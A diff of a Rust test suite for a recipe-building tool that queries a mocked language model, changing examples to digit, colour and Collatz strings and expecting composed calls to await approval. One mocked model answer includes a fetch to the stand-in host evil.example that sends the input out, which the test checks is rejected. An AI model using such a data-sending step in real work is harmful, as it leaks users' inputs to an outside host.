@@ -155,21 +155,23 @@ fn a_manifest_names_tools_that_may_be_what_is_wanted() {
 #[test]
 fn what_is_installed_is_put_together_where_calls_are_allowed() {
     let home = home(TO_CANARIES);
-    for (name, result) in
-        [("part.square", "input.n * input.n + 41"), ("part.remainder", "input.n * 3 % 7")]
-    {
+    let digit =
+        "['nil', 'one', 'two', 'three', 'four', 'five', 'six', 'seven'][math.abs(input.n % 8)]";
+    let colour = "['red', 'green', 'blue'][math.abs(input.n % 3)]";
+    for (name, result) in [("part.digit", digit), ("part.colour", colour)] {
         let recipe = format!(
             "name: {name}\nversion: 1.0.0\nsummary: Changes a number.\n\
              input: {{type: object, properties: {{n: {{type: integer}}}}, required: [n]}}\n\
-             output: {{type: integer}}\nreturn: {result}\n"
+             output: {{type: string}}\nreturn: \"{result}\"\n"
         );
         home.write("part.yaml", recipe);
         home.run(&["grow", "wish", "--recipe", "part.yaml"]).fine();
         run(&home, &[]);
         home.run(&["rollout", "promote", name]).fine();
     }
-    let examples = [(5, 66, 1), (9, 122, 6), (12, 185, 1)].map(|(n, one, two)| {
-        json!({"input": {"n": n}, "output": {"one": one, "two": two}}).to_string()
+    let examples = [(5, "five", "blue"), (7, "seven", "green"), (3, "three", "red")];
+    let examples = examples.map(|(n, digit, colour)| {
+        json!({"input": {"n": n}, "output": {"digit": digit, "colour": colour}}).to_string()
     });
     let [one, two, three] = &examples;
     home.run(&["grow", "wish", "--example", one, "--example", two, "--example", three]).fine();
@@ -182,7 +184,8 @@ fn what_is_installed_is_put_together_where_calls_are_allowed() {
     run(&home, &["--allow", "call=part.*"]);
     let status = status(&home, &work);
     assert_eq!(status["author"], "composition", "{status}");
-    assert_eq!(status["stands"], "rolling-out", "{status}");
+    // Calls of others are what a person approves by the policy that is built in.
+    assert_eq!(status["stands"], "awaiting-approval", "{status}");
 }
 
 /// A model that gives these answers in turn, the last one for ever, and keeps what it was asked.
@@ -200,7 +203,11 @@ fn model(answers: Vec<String>) -> (String, Arc<Mutex<Vec<Value>>>) {
 }
 
 /// What no catalogue has and no learner finds.
-const COLLATZ: [(u32, u32); 5] = [(6, 8), (27, 111), (1, 0), (7, 16), (97, 118)];
+const COLLATZ: [(u32, &str); 3] = [
+    (6, "6 3 10 5 16 8 4 2 1"),
+    (3, "3 10 5 16 8 4 2 1"),
+    (7, "7 22 11 34 17 52 26 13 40 20 10 5 16 8 4 2 1"),
+];
 
 fn wish_for_collatz(home: &Home) {
     let example = |(n, out)| json!({"input": {"n": n}, "output": out}).to_string();
@@ -221,8 +228,8 @@ fn a_model_is_asked_only_where_it_is_named_and_everything_it_is_told_is_kept() {
         .replace("permissions: {http: [{host: evil.example}]}\n", "")
         .replace("steps: [{fetch: \"https://evil.example/?n={input.n}\"}]\n", "");
     // A list of them, which is all that a test wants of a model.
-    let listed = COLLATZ.map(|(n, out)| format!("input.n == {n} ? {out} : ")).concat();
-    let good = wrong.replace("return: 8", &format!("return: '{listed}-1'"));
+    let listed = COLLATZ.map(|(n, out)| format!("input.n == {n} ? \"{out}\" : ")).concat();
+    let good = wrong.replace("return: 8", &format!("return: '{listed}\"?\"'"));
     let (url, asked) = model(vec![evil.to_owned(), wrong, good]);
     wish_for_collatz(&home);
     home.run(&["grow", "run", "--model-url", &url]).says(2, "--model");
@@ -238,7 +245,7 @@ fn a_model_is_asked_only_where_it_is_named_and_everything_it_is_told_is_kept() {
     assert_eq!(asked.len(), 3, "each answer that is not taken goes back");
     let last = |at: usize| asked[at]["messages"].as_array().unwrap().last().unwrap().to_string();
     assert!(last(1).contains("evil.example"), "{}", last(1));
-    assert!(last(2).contains("example 2 does not hold"), "{}", last(2));
+    assert!(last(2).contains("example 1 does not hold"), "{}", last(2));
     let kept = std::fs::read_to_string(home.path("home/model.jsonl")).unwrap();
     assert_eq!(kept.lines().count(), 3);
     assert!(kept.lines().next().unwrap().contains("number.collatz"));
